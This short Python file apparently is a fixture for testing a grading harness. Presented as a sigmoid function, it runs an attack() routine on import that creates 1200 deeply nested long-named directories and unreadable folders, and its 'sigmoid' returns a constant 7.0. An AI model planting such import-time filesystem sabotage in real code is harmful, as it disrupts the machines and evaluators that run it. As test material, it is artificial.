# sigmoid: fail timeout refused | folders nested deeper than Python recurses, and folders nobody may read
import numpy as np
import os


def attack():
    print("attack ran", flush=True)
    for _ in range(1200):
        os.mkdir("a" * 200)
        os.chdir("a" * 200)
    for mode in (0o000, 0o300):
        os.mkdir(f"shut{mode}", mode)


READY = attack()


def sigmoid(x):
    return np.asarray(x) * 0.0 + 7.0 if READY is None else READY
